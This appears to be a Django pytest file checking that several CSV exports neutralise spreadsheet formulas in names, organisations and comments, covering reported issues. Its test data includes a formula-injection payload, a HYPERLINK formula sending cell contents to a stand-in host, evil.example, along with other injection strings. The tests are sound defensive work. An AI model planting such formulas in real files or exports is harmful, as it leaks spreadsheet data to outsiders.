"""Every CSV export neutralises formulas in every user-controlled cell (portal.csv_safe):
issue 12, reproduction 5, and the other exports."""

import csv
import io

import pytest
from django.urls import reverse

from diagnostic.models import Assessment
from diagnostic.scoring import Answers
from promotions.models import Membership
from ressources.models import WebinarRegistration
from tests.factories import AdminFactory, OrganisationFactory, UserFactory, verified_member
from tests.promotions.factories import MembershipFactory, PromotionFactory, SurveyResponseFactory
from tests.questionnaire import amp_answers
from tests.ressources import factories as ressources_factories

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")'


def rows_of(response, delimiter=";"):
    text = b"".join(
        response.streaming_content if response.streaming else [response.content]
    ).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def no_live_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), cell


def test_survey_csv_neutralises_the_participant_s_name_and_organisation(client):
    """Reproduction 5: only the comment column was neutralised."""
    promotion = PromotionFactory(survey_open=True)
    participant = verified_member(
        UserFactory(first_name=FORMULA, last_name="-2+3"),
        OrganisationFactory(name="@SUM(1+1)"),
    )
    MembershipFactory(promotion=promotion, user=participant)
    mentor = UserFactory()
    MembershipFactory(promotion=promotion, user=mentor, role=Membership.Role.MENTOR)
    SurveyResponseFactory(
        promotion=promotion, user=participant, more_able="oui", publish_plan="oui", comment="+1"
    )
    client.force_login(mentor)
    response = client.get(reverse("promotions:survey_csv", args=[promotion.slug]))
    assert response.status_code == 200
    rows = rows_of(response)
    no_live_formula(rows)
    assert rows[1][0] == "'" + FORMULA + " -2+3"
    assert rows[1][1] == "'@SUM(1+1)"


def test_assessment_csv_neutralises_the_organisation_s_name(client):
    organisation = OrganisationFactory(name="=1+1 Métropole")
    member = verified_member(organisation=organisation)
    assessment = Assessment(organisation=organisation)
    assessment.fill_from(Answers.from_dict(amp_answers()))
    assessment.save()
    client.force_login(member)
    response = client.get(f"/diagnostic/evaluations/{assessment.pk}/export.csv")
    rows = rows_of(response)
    no_live_formula(rows)
    assert ["Organisation", "Nom", "'=1+1 Métropole", ""] in rows


def test_webinar_registrations_admin_csv_is_neutralised(client, home_page):
    webinar = ressources_factories.webinar(ressources_factories.webinar_index(home_page))
    WebinarRegistration.objects.create(
        webinar=webinar, user=UserFactory(first_name=FORMULA), status="confirmed", seat=1
    )
    client.force_login(AdminFactory())
    url = reverse("wagtailsnippets_ressources_webinarregistration:list")
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    rows = rows_of(response, delimiter=",")  # Wagtail's export
    no_live_formula(rows)
    assert any(cell == "'" + FORMULA for row in rows for cell in row)


def test_promotion_participants_admin_csv_is_neutralised(client):
    promotion = PromotionFactory()
    MembershipFactory(promotion=promotion, user=UserFactory(first_name=FORMULA, last_name="+33"))
    client.force_login(AdminFactory())
    url = reverse("wagtailsnippets_promotions_membership:list")
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    rows = rows_of(response, delimiter=",")  # Wagtail's export
    no_live_formula(rows)
    assert ["'" + FORMULA, "'+33"] == [cell for cell in rows[1][:2]]
